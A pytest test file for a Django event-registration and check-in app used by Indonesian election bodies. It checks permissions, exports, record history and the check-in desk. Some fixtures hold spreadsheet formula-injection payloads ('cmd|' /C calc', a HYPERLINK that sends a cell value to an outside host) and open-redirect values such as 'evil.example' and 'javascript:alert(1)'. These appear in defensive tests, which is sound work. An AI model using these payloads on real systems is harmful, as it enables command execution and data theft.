import codecs
import csv
import datetime as dt
import io
import re

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from events.dates import date_indonesian
from events.models import Event
from participants import checkin, services
from participants.checkin_counts import check_in_counts_rebuild
from participants.models import Attendance, Registration
from participants.person import PersonData
from participants.views.checkin import CONFIRMED_DAYS

from .factories import AttendanceFactory, RegistrationFactory, add_twin_pps

pytestmark = pytest.mark.django_db

DAY1 = dt.date(2024, 11, 11)
RIMBO = "PPS Desa Sungai Abang, Kec. Rimbo"
TENGAH_ILIR = "PPS Desa Sungai Abang, Kec. Tengah Ilir"


@pytest.fixture
def people(world):
    """Three registrations: a KPU one present both days, a PPS one present day 1, a cancelled PPK one."""
    kpu = RegistrationFactory(
        quota_rule=world.kpu_rule,
        unit=world.kpu,
        role="commissioner",
        full_name="Supriadi",
        status=Registration.Status.VERIFIED,
        position='=HYPERLINK("http://x")',
    )
    pps = RegistrationFactory(
        quota_rule=world.pps_rule,
        unit=world.pps[0],
        full_name="Siti Aminah",
        sex="P",
        email="siti@example.com",
    )
    ppk = RegistrationFactory(
        quota_rule=world.ppk_rule,
        unit=world.ppk[1],
        full_name="Hendra Lubis",
        status=Registration.Status.CANCELLED,
    )
    at = dt.datetime(2024, 11, 11, 7, 42, tzinfo=timezone.get_current_timezone())
    AttendanceFactory(registration=kpu, day=DAY1, checked_in_at=at)
    AttendanceFactory(registration=kpu, day=DAY1 + dt.timedelta(days=1))
    AttendanceFactory(registration=pps, day=DAY1, checked_in_at=at)
    check_in_counts_rebuild(event=world.event)  # attendance made around the service
    return {"kpu": kpu, "pps": pps, "ppk": ppk}


def body(response) -> bytes:
    """The answer's bytes; a streamed one (the CSV export) can be read only once: kept."""
    if not hasattr(response, "body_read"):
        response.body_read = response.getvalue()
    return response.body_read


def csv_rows(response) -> list[list[str]]:
    """The CSV export as Excel in the Indonesian locale reads it: UTF-8 with a BOM, ";"."""
    assert body(response).startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig")), delimiter=";"))


def text_of(response) -> str:
    """The page's words without tags, spaces collapsed: what a person reads."""
    return " ".join(re.sub(r"<[^>]+>", " ", response.content.decode()).split())


def staff_urls(world, people):
    slug, pk = world.event.slug, people["pps"].pk
    return [
        ("get", reverse("participants:staff-list", args=[slug])),
        ("get", reverse("participants:staff-export", args=[slug, "csv"])),
        ("get", reverse("participants:staff-export", args=[slug, "xlsx"])),
        ("get", reverse("participants:staff-detail", args=[pk])),
        ("post", reverse("participants:staff-verify", args=[pk])),
        ("post", reverse("participants:staff-reject", args=[pk])),
        ("get", reverse("participants:staff-cancel", args=[pk])),
        ("post", reverse("participants:staff-cancel", args=[pk])),
        ("get", reverse("participants:staff-substitute", args=[pk])),
        ("get", reverse("participants:staff-correct", args=[pk])),
        ("post", reverse("participants:staff-correct", args=[pk])),
        ("get", reverse("participants:check-in-today", args=[slug])),
        ("get", reverse("participants:check-in", args=[slug, "2024-11-11"])),
        ("post", reverse("participants:check-in", args=[slug, "2024-11-11"])),
    ]


class TestPermissions:
    def test_anonymous_is_sent_to_the_login_page_everywhere(self, client, world, people):
        for method, url in staff_urls(world, people):
            response = getattr(client, method)(url)
            assert response.status_code == 302, url
            assert response["Location"].startswith("/admin/login/"), url

    def test_staff_without_permission_is_refused_everywhere(self, staff_client, world, people):
        for method, url in staff_urls(world, people):
            assert getattr(staff_client, method)(url).status_code == 403, url
        people["pps"].refresh_from_db()
        assert people["pps"].status == Registration.Status.PENDING

    def test_viewing_is_not_verifying_nor_checking_in(self, client, world, people, user_with):
        client.force_login(user_with("view_registration"))
        pk = people["pps"].pk
        assert client.post(reverse("participants:staff-verify", args=[pk])).status_code == 403
        check_in = reverse("participants:check-in", args=[world.event.slug, "2024-11-11"])
        assert client.get(check_in).status_code == 403


class TestList:
    def test_it_lists_with_masked_nik_and_attendance(self, client, world, people, user_with):
        client.force_login(user_with("view_registration", "view_full_nik"))
        html = client.get(
            reverse("participants:staff-list", args=[world.event.slug])
        ).content.decode()
        for registration in people.values():
            assert registration.masked_nik in html
            assert registration.nik not in html
        assert "Supriadi" in html and "3 pendaftaran" in html

    @pytest.mark.parametrize(
        "query, names",
        [
            ("unsur=PPS", {"Siti Aminah"}),
            ("unsur=KPU_KAB", {"Supriadi"}),
            ("status=cancelled", {"Hendra Lubis"}),
            ("hari=2024-11-12", {"Supriadi"}),
            ("hari=2024-11-11", {"Supriadi", "Siti Aminah"}),
            (
                "unsur=bogus&hari=not-a-date&kecamatan=x",
                {"Supriadi", "Siti Aminah", "Hendra Lubis"},
            ),
        ],
    )
    def test_it_filters(self, client, world, people, user_with, query, names):
        client.force_login(user_with("view_registration"))
        response = client.get(
            reverse("participants:staff-list", args=[world.event.slug]) + "?" + query
        )
        shown = {r.full_name for r in response.context["page"]}
        assert shown == names

    def test_it_filters_by_kecamatan_for_ppk_and_pps(self, client, world, people, user_with):
        client.force_login(user_with("view_registration"))
        base = reverse("participants:staff-list", args=[world.event.slug])
        first = client.get(f"{base}?kecamatan={world.districts[0].pk}").context["page"]
        second = client.get(f"{base}?kecamatan={world.districts[1].pk}").context["page"]
        assert {r.full_name for r in first} == {"Siti Aminah"}
        assert {r.full_name for r in second} == {"Hendra Lubis"}

    @pytest.mark.parametrize("value", ["²", "9" * 30, "-1", "0"])
    def test_a_digit_like_kecamatan_is_ignored_not_a_server_error(
        self, client, world, people, user_with, value
    ):
        client.force_login(user_with("view_registration"))
        for name, extra in (
            ("participants:staff-list", []),
            ("participants:staff-export", ["csv"]),
        ):
            response = client.get(
                reverse(name, args=[world.event.slug, *extra]), {"kecamatan": value}
            )
            assert response.status_code == 200, name
        assert body(response).decode("utf-8-sig").count("\n") == 4  # header + 3 rows

    def test_a_provincial_organiser_sees_the_kecamatan_of_its_province(
        self, client, world, people, user_with
    ):
        from bodies.tests.factories import BodyFactory

        province = BodyFactory(kpu_provinsi=True, province=world.regency.province)
        world.event.organiser = province
        world.event.save(update_fields=["organiser"])
        client.force_login(user_with("view_registration"))
        response = client.get(reverse("participants:staff-list", args=[world.event.slug]))
        assert [d.name for d in response.context["districts"]] == ["Rimbo", "Tengah Ilir"]

    @pytest.mark.parametrize(
        "text, names",
        [
            ("siti", {"Siti Aminah"}),
            ("  HENDRA  ", {"Hendra Lubis"}),
            ("a", {"Supriadi", "Siti Aminah", "Hendra Lubis"}),
            ("nobody", set()),
        ],
    )
    def test_it_searches_the_name(self, client, world, people, user_with, text, names):
        client.force_login(user_with("view_registration"))
        url = reverse("participants:staff-list", args=[world.event.slug])
        shown = {r.full_name for r in client.get(url, {"q": text}).context["page"]}
        assert shown == names

    def test_it_finds_the_exact_code_as_the_desk_normalises_it(
        self, client, world, people, user_with
    ):
        client.force_login(user_with("view_registration"))
        url = reverse("participants:staff-list", args=[world.event.slug])
        code = people["pps"].code
        typed = f" {code[:4].lower()}-{code[4:]} "
        assert [r.full_name for r in client.get(url, {"q": typed}).context["page"]] == [
            "Siti Aminah"
        ]
        assert not client.get(url, {"q": code[:7]}).context["page"].object_list

    def test_the_search_combines_with_the_filters_and_is_kept(
        self, client, world, people, user_with
    ):
        client.force_login(user_with("view_registration"))
        url = reverse("participants:staff-list", args=[world.event.slug])
        response = client.get(url, {"q": "i", "unsur": "PPK"})
        assert {r.full_name for r in response.context["page"]} == {"Hendra Lubis"}
        html = response.content.decode()
        assert 'name="q" id="f-q" value="i"' in html
        assert "ekspor.csv?q=i&amp;unsur=PPK" in html

    def test_the_export_follows_the_search(self, client, world, people, user_with):
        client.force_login(user_with("view_registration"))
        response = client.get(
            reverse("participants:staff-export", args=[world.event.slug, "csv"]), {"q": "siti"}
        )
        rows = csv_rows(response)
        assert len(rows) == 2 and "Siti Aminah" in rows[1]

    def test_the_record_leads_back_to_the_same_list(self, client, world, people, user_with):
        client.force_login(user_with("view_registration"))
        url = reverse("participants:staff-list", args=[world.event.slug])
        html = client.get(url, {"q": "siti", "status": "pending"}).content.decode()
        detail = re.search(r'href="(/daftar/staf/registrasi/\d+/\?next=[^"]+)"', html).group(1)
        back = client.get(detail.replace("&amp;", "&")).context["back_url"]
        assert back == f"{url}?q=siti&status=pending"

    @pytest.mark.parametrize(
        "next_url",
        [
            "https://evil.example/daftar/staf/x/",
            "//evil.example/",
            "/admin/",
            "/daftar/staf/another-event/?q=x",
            "javascript:alert(1)",
        ],
    )
    def test_the_back_link_is_only_ever_this_event_s_list(
        self, client, world, people, user_with, next_url
    ):
        client.force_login(user_with("view_registration"))
        detail = reverse("participants:staff-detail", args=[people["pps"].pk])
        back = client.get(detail, {"next": next_url}).context["back_url"]
        assert back == reverse("participants:staff-list", args=[world.event.slug])

    def test_its_queries_do_not_grow_with_the_rows(
        self, client, world, people, user_with, django_assert_num_queries
    ):
        client.force_login(user_with("view_registration"))
        url = reverse("participants:staff-list", args=[world.event.slug])
        # session, user, permissions (user, groups), the user's KPU office, event, count,
        # rows, attendance, districts
        with django_assert_num_queries(10):
            client.get(url)
        for unit in world.pps[1:]:
            AttendanceFactory(registration__quota_rule=world.pps_rule, registration__unit=unit)
        with django_assert_num_queries(10):
            response = client.get(url)
        assert response.context["page"].paginator.count == 5


class TestExports:
    def test_the_csv_has_the_secretariat_columns_and_masked_nik(
        self, client, world, people, user_with
    ):
        client.force_login(user_with("view_registration", "view_full_nik"))
        response = client.get(reverse("participants:staff-export", args=[world.event.slug, "csv"]))
        assert response["Content-Type"].startswith("text/csv")
        assert "attachment" in response["Content-Disposition"]
        rows = csv_rows(response)
        assert rows[0] == [
            "No",
            "Kode",
            "Nama",
            "NIK",
            "L/P",
            "Unsur",
            "Unit",
            "Kecamatan",
            "Jabatan",
            "Instansi",
            "Gol.",
            "HP",
            "E-mail",
            "Status",
            "Hadir hari 1",
            "Hadir hari 2",
        ]
        at = rows[0].index
        by_name = {row[2]: row for row in rows[1:]}
        siti = by_name["Siti Aminah"]
        assert siti[3] == people["pps"].masked_nik and "*" in siti[3]
        assert siti[4] == "P" and siti[6] == RIMBO and siti[7] == "Rimbo"
        assert siti[at("E-mail")] == "siti@example.com"
        assert siti[at("Hadir hari 1") :] == ["Ya", "Tidak"]
        assert by_name["Supriadi"][at("Hadir hari 1") :] == ["Ya", "Ya"]
        assert by_name["Supriadi"][at("Jabatan")].startswith("'=")  # never a formula
        assert by_name["Hendra Lubis"][at("Status")] == "Dibatalkan"
        assert [row[0] for row in rows[1:]] == ["1", "2", "3"]

    def test_free_text_starting_like_a_formula_is_escaped_and_the_phone_stays_text(
        self, client, world, user_with
    ):
        RegistrationFactory(
            quota_rule=world.kpu_rule,
            unit=world.kpu,
            full_name="-2+3+cmd|' /C calc'!A0",
            position="+1+cmd|' /C calc'!A0",
            institution="@SUM(1)",
            email="\tx@example.com",
            phone="+6281234567890",
        )
        client.force_login(user_with("view_registration", "view_full_nik"))
        response = client.get(reverse("participants:staff-export", args=[world.event.slug, "csv"]))
        heading, row = csv_rows(response)[:2]
        at = heading.index
        assert row[2] == "'-2+3+cmd|' /C calc'!A0"
        assert row[at("Jabatan")] == "'+1+cmd|' /C calc'!A0"
        assert row[at("Instansi")] == "'@SUM(1)"
        assert row[at("E-mail")] == "'\tx@example.com"
        # Not "+62...": a spreadsheet reads that as the number 6,28123E+12. Written as
        # people write it, it stays text and can be dialled.
        assert row[at("HP")] == "0812 3456 7890"

    def test_no_piece_of_a_csv_field_runs_as_a_formula_whatever_the_separator(
        self, client, world, user_with
    ):
        # Issue #17 finding 4: "x,=1+1" in a ";" file opened with "," as the separator.
        RegistrationFactory(
            quota_rule=world.kpu_rule,
            unit=world.kpu,
            full_name="Ahmad, =1+1",
            position='Kasubbag;=HYPERLINK("http://x/?"&B2,"klik")',
            institution='KPU|@SUM(1)\n-2+3, "+4',
        )
        client.force_login(user_with("view_registration", "view_full_nik"))
        response = client.get(reverse("participants:staff-export", args=[world.event.slug, "csv"]))
        text = body(response).decode("utf-8-sig")

        row = csv_rows(response)[1]
        assert row[2] == "Ahmad, '=1+1"
        assert row[8] == 'Kasubbag;\'=HYPERLINK("http://x/?"&B2,"klik")'
        assert row[9] == "KPU|'@SUM(1)\n'-2+3, \"'+4"
        for separator in (",", ";", "|", "\t"):
            for line in text.splitlines()[1:]:
                for field in line.split(separator):
                    assert not field.strip(' "').startswith(("=", "+", "@", "-")), (
                        separator,
                        field,
                    )

    def test_the_csv_is_streamed_and_read_in_chunks(self, client, world, people, user_with):
        # A national event's list is ~90,000 lines: sent as it is made, never built whole
        # in memory, and the registrations are read with a chunked iterator (issue #22).
        client.force_login(user_with("view_registration"))
        response = client.get(reverse("participants:staff-export", args=[world.event.slug, "csv"]))
        assert response.streaming
        pieces = list(response.streaming_content)
        assert len(pieces) == 1 + len(people)  # the head, then a piece per registration
        assert pieces[0].startswith(codecs.BOM_UTF8)

    def test_the_csv_is_separated_by_semicolons_for_excel_in_indonesian(
        self, client, world, user_with
    ):
        RegistrationFactory(
            quota_rule=world.kpu_rule,
            unit=world.kpu,
            full_name="Ahmad Fauzi",
            position="Kasubbag; Teknis",
            institution='KPU "Tebo"',
        )
        client.force_login(user_with("view_registration", "view_full_nik"))
        response = client.get(reverse("participants:staff-export", args=[world.event.slug, "csv"]))
        lines = body(response).decode("utf-8-sig").splitlines()
        assert lines[0].startswith("No;Kode;Nama;NIK;L/P;Unsur;Unit;Kecamatan;")
        heading, row = csv_rows(response)[:2]
        assert len(row) == len(heading)
        assert (row[2], row[heading.index("Jabatan")], row[heading.index("Instansi")]) == (
            "Ahmad Fauzi",
            "Kasubbag; Teknis",
            'KPU "Tebo"',
        )

    def test_the_xlsx_has_the_same_rows(
        self, client, world, people, user_with, django_assert_max_num_queries
    ):
        client.force_login(user_with("view_registration", "view_full_nik"))
        url = reverse("participants:staff-export", args=[world.event.slug, "xlsx"]) + "?unsur=PPS"
        with django_assert_max_num_queries(9):  # 8 and the access-log entry
            response = client.get(url)
        sheet = load_workbook(io.BytesIO(response.content)).active
        rows = list(sheet.iter_rows(values_only=True))
        assert rows[0][:4] == ("No", "Kode", "Nama", "NIK")
        assert len(rows) == 2
        assert rows[1][2] == "Siti Aminah" and rows[1][3] == people["pps"].masked_nik
        assert rows[1][rows[0].index("HP")] == people["pps"].phone

    def test_a_formula_in_a_cell_stays_text_in_xlsx(self, client, world, people, user_with):
        client.force_login(user_with("view_registration", "view_full_nik"))
        response = client.get(
            reverse("participants:staff-export", args=[world.event.slug, "xlsx"]) + "?unsur=KPU_KAB"
        )
        cell = load_workbook(io.BytesIO(response.content)).active["I2"]
        assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")


class TestRecord:
    def test_the_full_nik_only_with_permission(self, client, world, people, user_with):
        url = reverse("participants:staff-detail", args=[people["pps"].pk])
        client.force_login(user_with("view_registration"))
        html = client.get(url).content.decode()
        assert people["pps"].masked_nik in html and people["pps"].nik not in html
        client.force_login(user_with("view_registration", "view_full_nik"))
        assert people["pps"].nik in client.get(url).content.decode()

    def test_verify_reject_and_cancel_by_staff(self, client, world, people, user_with):
        client.force_login(user_with("view_registration", "verify_registration"))
        pps = RegistrationFactory(quota_rule=world.pps_rule, unit=world.pps[1])
        response = client.post(reverse("participants:staff-verify", args=[pps.pk]), follow=True)
        assert "Pendaftaran sudah diverifikasi." in response.content.decode()
        response = client.post(
            reverse("participants:staff-reject", args=[pps.pk]), {"reason": " "}, follow=True
        )
        assert "Tuliskan alasan pendaftaran ditolak." in response.content.decode()
        pps.refresh_from_db()
        assert pps.status == Registration.Status.VERIFIED
        client.post(
            reverse("participants:staff-reject", args=[pps.pk]), {"reason": "Bukan anggota"}
        )
        pps.refresh_from_db()
        assert (pps.status, pps.status_reason) == (Registration.Status.REJECTED, "Bukan anggota")
        response = client.post(reverse("participants:staff-cancel", args=[pps.pk]), follow=True)
        assert "tidak dapat diubah lagi" in response.content.decode()

    def test_the_history_reads_in_indonesian(self, client, world, people, user_with):
        client.force_login(user_with("view_registration", "verify_registration"))
        pps = RegistrationFactory(quota_rule=world.pps_rule, unit=world.pps[1])
        client.post(reverse("participants:staff-verify", args=[pps.pk]))
        client.post(reverse("participants:staff-reject", args=[pps.pk]), {"reason": "Ganda"})
        html = client.get(reverse("participants:staff-detail", args=[pps.pk])).content.decode()
        history = html[html.index("Riwayat") :]
        assert "diverifikasi" in history and "ditolak" in history and "alasan: Ganda" in history
        assert "verified" not in history and "rejected" not in history

    def test_the_history_says_the_nik_changed_and_who_changed_it_without_values(
        self, client, world, people, user_with
    ):
        pps = RegistrationFactory(
            quota_rule=world.pps_rule, unit=world.pps[1], nik="1509015705900001"
        )
        # The person's private link works until 30 days after the event: a coming one.
        soon = timezone.localdate() + dt.timedelta(days=7)
        Event.objects.filter(pk=world.event.pk).update(first_day=soon, last_day=soon)
        edit = reverse("participants:edit", args=[pps.private_token])
        client.post(
            edit, {"full_name": pps.full_name, "nik": "1509015705900002", "phone": pps.phone}
        )
        client.force_login(user_with("view_registration", "verify_registration"))
        client.post(reverse("participants:staff-verify", args=[pps.pk]))
        html = text_of(client.get(reverse("participants:staff-detail", args=[pps.pk])))
        history = html[html.index("Riwayat") :]
        assert "data diperbaiki · peserta (tautan pribadi) · data diubah: NIK," in history
        assert "diverifikasi · staf-view_registration-verify_registration" in history
        assert "1509**********0" not in history and "→" not in history

    def test_verify_is_post_only(self, client, world, people, user_with):
        client.force_login(user_with("view_registration", "verify_registration"))
        assert (
            client.get(reverse("participants:staff-verify", args=[people["pps"].pk])).status_code
            == 405
        )

    def test_substitute_puts_a_new_person_in_the_same_seat(self, client, world, people, user_with):
        client.force_login(user_with("view_registration", "verify_registration"))
        old = RegistrationFactory(quota_rule=world.pps_rule, unit=world.pps[1])
        response = client.post(
            reverse("participants:staff-substitute", args=[old.pk]),
            {"full_name": "Budi Santoso", "nik": "1509020202900007", "phone": "081377778888"},
        )
        new = Registration.objects.get(full_name="Budi Santoso")
        assert response["Location"] == reverse("participants:staff-detail", args=[new.pk])
        old.refresh_from_db()
        assert (old.status, old.status_reason) == (Registration.Status.CANCELLED, "diganti")
        assert (new.seat_number, new.unit_id) == (old.seat_number, old.unit_id)

    def test_substitute_with_a_registered_nik_shows_the_error(
        self, client, world, people, user_with
    ):
        client.force_login(user_with("view_registration", "verify_registration"))
        old = RegistrationFactory(quota_rule=world.pps_rule, unit=world.pps[1])
        html = client.post(
            reverse("participants:staff-substitute", args=[old.pk]),
            {"full_name": "Budi Santoso", "nik": people["kpu"].nik, "phone": "081377778888"},
        ).content.decode()
        assert "NIK ini sudah memegang kursi di kegiatan ini" in html
        assert "tautan pribadi" not in html and "Anda" not in html

    def test_the_substitute_form_speaks_of_the_new_participant_not_to_the_staff_member(
        self, client, world, user_with
    ):
        client.force_login(user_with("view_registration", "verify_registration"))
        old = RegistrationFactory(quota_rule=world.pps_rule, unit=world.pps[1])
        page = text_of(client.get(reverse("participants:staff-substitute", args=[old.pk])))
        assert "Sesuai KTP peserta pengganti" in page
        assert "Nomor 16 digit pada KTP peserta pengganti." in page
        assert "Anda" not in page


class TestStaffCancelAndRecordedAttendance:
    @pytest.fixture
    def staff(self, client, user_with):
        client.force_login(user_with("view_registration", "verify_registration"))
        return client

    def test_cancel_asks_first_and_cancels_on_confirmation(self, staff, world):
        person = RegistrationFactory(
            quota_rule=world.pps_rule, unit=world.pps[1], full_name="Dewi Lestari"
        )
        url = reverse("participants:staff-cancel", args=[person.pk])
        page = text_of(staff.get(url))
        assert "Batalkan pendaftaran Dewi Lestari" in page
        assert "Ya, batalkan pendaftaran" in page
        person.refresh_from_db()
        assert person.status == Registration.Status.PENDING  # asking changes nothing
        response = staff.post(url, {"reason": "Sakit"}, follow=True)
        assert "Pendaftaran sudah dibatalkan; kursinya kosong." in text_of(response)
        person.refresh_from_db()
        assert (person.status, person.status_reason) == (Registration.Status.CANCELLED, "Sakit")

    def test_the_record_links_to_the_confirmation_not_a_direct_cancel(self, staff, world):
        person = RegistrationFactory(quota_rule=world.pps_rule, unit=world.pps[1])
        html = staff.get(reverse("participants:staff-detail", args=[person.pk])).content.decode()
        cancel = reverse("participants:staff-cancel", args=[person.pk])
        assert f'href="{cancel}"' in html and f'action="{cancel}"' not in html

    def test_someone_recorded_present_is_neither_cancelled_nor_substituted(
        self, staff, world, people
    ):
        kpu = people["kpu"]  # verified, present on both days
        record = text_of(staff.get(reverse("participants:staff-detail", args=[kpu.pk])))
        assert "tidak dapat lagi ditolak, dibatalkan, atau diganti" in record
        assert "Ganti dengan orang lain" not in record
        refused = f"Supriadi tercatat hadir pada {date_indonesian(DAY1)}, {date_indonesian(DAY1 + dt.timedelta(days=1))}"
        for url in (
            reverse("participants:staff-cancel", args=[kpu.pk]),
            reverse("participants:staff-substitute", args=[kpu.pk]),
        ):
            response = staff.get(url, follow=True)
            assert response.redirect_chain[-1][0] == reverse(
                "participants:staff-detail", args=[kpu.pk]
            )
            assert refused in text_of(response)
        assert refused in text_of(
            staff.post(reverse("participants:staff-cancel", args=[kpu.pk]), follow=True)
        )
        staff.post(
            reverse("participants:staff-substitute", args=[kpu.pk]),
            {"full_name": "Budi Santoso", "nik": "1509020202900007", "phone": "081377778888"},
        )
        kpu.refresh_from_db()
        assert kpu.status == Registration.Status.VERIFIED
        assert not Registration.objects.filter(full_name="Budi Santoso").exists()

    @pytest.mark.parametrize(
        "status", [Registration.Status.CANCELLED, Registration.Status.REJECTED]
    )
    def test_the_substitute_page_does_not_open_for_an_inactive_registration(
        self, staff, world, status
    ):
        person = RegistrationFactory(quota_rule=world.pps_rule, unit=world.pps[1], status=status)
        for name in ("participants:staff-substitute", "participants:staff-cancel"):
            response = staff.get(reverse(name, args=[person.pk]), follow=True)
            assert response.redirect_chain[-1][0] == reverse(
                "participants:staff-detail", args=[person.pk]
            )
            assert "tidak dapat diubah lagi" in text_of(response)


def confirm_desk_days(client, event) -> None:
    """The desk asks once before recording on a day that is not today: said yes already."""
    session = client.session
    session[CONFIRMED_DAYS] = [f"{event.pk}:{day.isoformat()}" for day in event.days]
    session.save()


class TestCheckInDesk:
    @pytest.fixture
    def desk(self, client, world, user_with):
        client.force_login(user_with("check_in", "view_registration"))
        confirm_desk_days(client, world.event)
        return reverse("participants:check-in", args=[world.event.slug, "2024-11-11"])

    def test_today_outside_the_event_opens_the_first_day(self, client, world, desk):
        response = client.get(reverse("participants:check-in-today", args=[world.event.slug]))
        assert response["Location"] == desk

    def test_a_day_outside_the_event_is_not_found(self, client, world, desk):
        assert client.get(desk.replace("2024-11-11", "2024-11-13")).status_code == 404
        assert client.get(desk.replace("2024-11-11", "kemarin")).status_code == 404

    def test_the_page_has_an_autofocus_box_and_the_count(self, client, people, desk):
        html = client.get(desk).content.decode()
        assert 'name="query"' in html and "autofocus" in html
        # Supriadi (verified) is present; Siti's attendance does not count: she is not verified.
        assert '<span class="display-6 fw-bold">1</span>' in html

    def test_the_count_says_present_out_of_the_verified_people_today(
        self, client, world, people, user_with
    ):
        today = timezone.localdate()
        Event.objects.filter(pk=world.event.pk).update(
            first_day=today, last_day=today + dt.timedelta(days=1)
        )
        event = Event.objects.get(pk=world.event.pk)
        checkin.attendance_check_in(event=event, day=today, registration=people["kpu"], actor=None)
        for unit in world.pps[1:]:  # verified, not here yet
            RegistrationFactory(
                quota_rule=world.pps_rule, unit=unit, status=Registration.Status.VERIFIED
            )
        gone = RegistrationFactory(
            quota_rule=world.ppk_sec_rule, unit=world.ppk[0], status=Registration.Status.VERIFIED
        )
        checkin.attendance_check_in(event=event, day=today, registration=gone, actor=None)
        # Checked in, then back to verification by their own correction: no longer counted.
        services.registration_update_own(
            registration=gone,
            person=PersonData(full_name="Nama Lain", nik=gone.nik, phone=gone.phone),
        )
        client.force_login(user_with("check_in"))
        html = client.get(reverse("participants:check-in", args=[world.event.slug, today]))
        assert "1 dari 3 peserta terverifikasi hadir hari ini" in text_of(html)
        tomorrow = today + dt.timedelta(days=1)
        html = client.get(reverse("participants:check-in", args=[world.event.slug, tomorrow]))
        assert f"0 dari 3 peserta terverifikasi hadir pada {date_indonesian(tomorrow)}" in text_of(
            html
        )

    def test_a_scanned_code_marks_the_person_present(self, client, world, desk):
        person = RegistrationFactory(
            quota_rule=world.pps_rule,
            unit=world.pps[2],
            full_name="Dewi Lestari",
            status=Registration.Status.VERIFIED,
        )
        response = client.post(desk, {"query": person.code.lower() + "\n"}, follow=True)
        html = response.content.decode()
        assert "Dewi Lestari (PPS Kelurahan Mengupeh, Kec. Tengah Ilir) hadir, pukul" in html
        assert Attendance.objects.filter(registration=person, day=DAY1).exists()

    def test_every_refusal_has_its_message(self, client, world, people, desk):
        def message(query):
            return client.post(desk, {"query": query}, follow=True).content.decode()

        assert "Tidak ada pendaftaran dengan kode “ZZZZ2222”" in message("ZZZZ2222")
        assert "sudah tercatat hadir pada Senin, 11 November 2024, pukul 07.42" in message(
            people["pps"].code
        )
        assert "tidak dapat dicatat hadir: pendaftarannya berstatus dibatalkan" in message(
            people["ppk"].code
        )
        other = RegistrationFactory(
            quota_rule__event__title="Bimtek KPPS Lain",
            quota_rule__event__organiser=world.event.organiser,
        )
        assert "terdaftar untuk kegiatan lain: Bimtek KPPS Lain" in message(other.code)
        elsewhere = RegistrationFactory(quota_rule__event__title="Bimtek Kantor Lain")
        refused = message(elsewhere.code)
        assert f"Kode “{elsewhere.code}” terdaftar untuk kegiatan kantor lain." in refused
        assert "Bimtek Kantor Lain" not in refused
        assert "Tidak ada peserta kegiatan ini yang cocok" in message("Nama Tak Ada")
        assert "Ketik atau pindai kode pendaftaran" in message("")
        pending = RegistrationFactory(quota_rule=world.pps_rule, unit=world.pps[2])
        assert "belum diverifikasi" in message(pending.code)
        assert not pending.attendances.exists()

    def test_a_unique_name_checks_in_and_several_names_ask_to_choose(
        self, client, world, people, desk
    ):
        html = client.post(desk, {"query": "hendra"}, follow=True).content.decode()
        assert "tidak dapat dicatat hadir" in html  # Hendra's registration is cancelled
        RegistrationFactory(
            quota_rule=world.pps_rule,
            unit=world.pps[1],
            full_name="Siti Rahma",
            status=Registration.Status.VERIFIED,
        )
        response = client.post(desk, {"query": "siti"})
        assert response.status_code == 200
        html = response.content.decode()
        assert "Beberapa orang cocok" in html and "Siti Rahma" in html
        rahma = Registration.objects.get(full_name="Siti Rahma")
        client.post(desk, {"registration": rahma.pk})
        assert Attendance.objects.filter(registration=rahma, day=DAY1).exists()

    @pytest.mark.parametrize("name", ["Supriadi", "supriadi", "Supriadi "])
    def test_an_eight_letter_name_is_read_as_a_name_not_a_code(
        self, client, world, people, desk, name
    ):
        html = client.post(desk, {"query": name}, follow=True).content.decode()
        assert "Tidak ada pendaftaran dengan kode" not in html
        assert "Supriadi" in html and "sudah tercatat hadir pada Senin, 11 November 2024" in html

    @pytest.mark.parametrize("typed", ["{a} {b}", "{a}-{b}", " {a}  {b} ", "{a}\t{b}"])
    def test_a_code_typed_in_two_groups_is_found(self, client, world, desk, typed):
        person = RegistrationFactory(
            quota_rule=world.pps_rule,
            unit=world.pps[2],
            full_name="Dewi Lestari",
            status=Registration.Status.VERIFIED,
        )
        query = typed.format(a=person.code[:4], b=person.code[4:].lower())
        html = client.post(desk, {"query": query}, follow=True).content.decode()
        assert "Dewi Lestari (PPS Kelurahan Mengupeh, Kec. Tengah Ilir) hadir, pukul" in html
        assert person.attendances.filter(day=DAY1).exists()

    def test_a_name_already_checked_in_that_day_shows_the_time_not_the_button(
        self, client, world, people, desk
    ):
        RegistrationFactory(
            quota_rule=world.pps_rule,
            unit=world.pps[1],
            full_name="Siti Rahma",
            status=Registration.Status.VERIFIED,
        )
        html = client.post(desk, {"query": "siti"}).content.decode()
        aminah = html[html.index("Siti Aminah") : html.index("</li>", html.index("Siti Aminah"))]
        rahma = html[html.index("Siti Rahma") : html.index("</li>", html.index("Siti Rahma"))]
        assert "hadir, 07.42" in aminah and 'name="registration"' not in aminah
        assert 'name="registration"' in rahma and "hadir, " not in rahma
        day2 = reverse("participants:check-in", args=[world.event.slug, "2024-11-12"])
        html = client.post(day2, {"query": "siti"}).content.decode()
        # Siti Aminah was present on day 1 only, but is pending: no button that would fail.
        assert html.count('name="registration"') == 1
        assert "Menunggu verifikasi" in html

    def test_a_name_that_reads_like_a_code_falls_back_to_the_name(self, client, world, desk):
        person = RegistrationFactory(
            quota_rule=world.pps_rule,
            unit=world.pps[1],
            full_name="Suryanta",
            status=Registration.Status.VERIFIED,
        )
        html = client.post(desk, {"query": "Suryanta"}, follow=True).content.decode()
        assert "Suryanta (PPS Desa Teluk Kayu Putih, Kec. Rimbo) hadir" in html
        assert person.attendances.filter(day=DAY1).exists()

    @pytest.mark.parametrize("value", ["²", "9" * 30])
    def test_a_digit_like_registration_id_gets_a_message_not_a_server_error(
        self, client, world, desk, value
    ):
        response = client.post(desk, {"registration": value}, follow=True)
        assert response.status_code == 200
        assert "Ketik atau pindai kode pendaftaran" in response.content.decode()

    def test_active_people_are_listed_before_cancelled_ones(self, client, world, people, desk):
        RegistrationFactory(quota_rule=world.pps_rule, unit=world.pps[1], full_name="Hendra Putra")
        html = client.post(desk, {"query": "hendra"}).content.decode()
        assert html.index("Hendra Putra") < html.index("Hendra Lubis")
        assert "Dibatalkan" in html


class TestQueryCounts:
    def test_the_check_in_desk_costs_the_same_with_more_people_present(
        self, client, world, people, user_with, django_assert_num_queries
    ):
        client.force_login(user_with("check_in"))
        url = reverse("participants:check-in", args=[world.event.slug, "2024-11-11"])
        # session, user, permissions (user, groups), the user's KPU office, event, the
        # kept present count, the verified count, recent check-ins
        with django_assert_num_queries(9):
            client.get(url)
        for unit in world.pps[1:]:
            AttendanceFactory(registration__quota_rule=world.pps_rule, registration__unit=unit)
        with django_assert_num_queries(9):
            client.get(url)

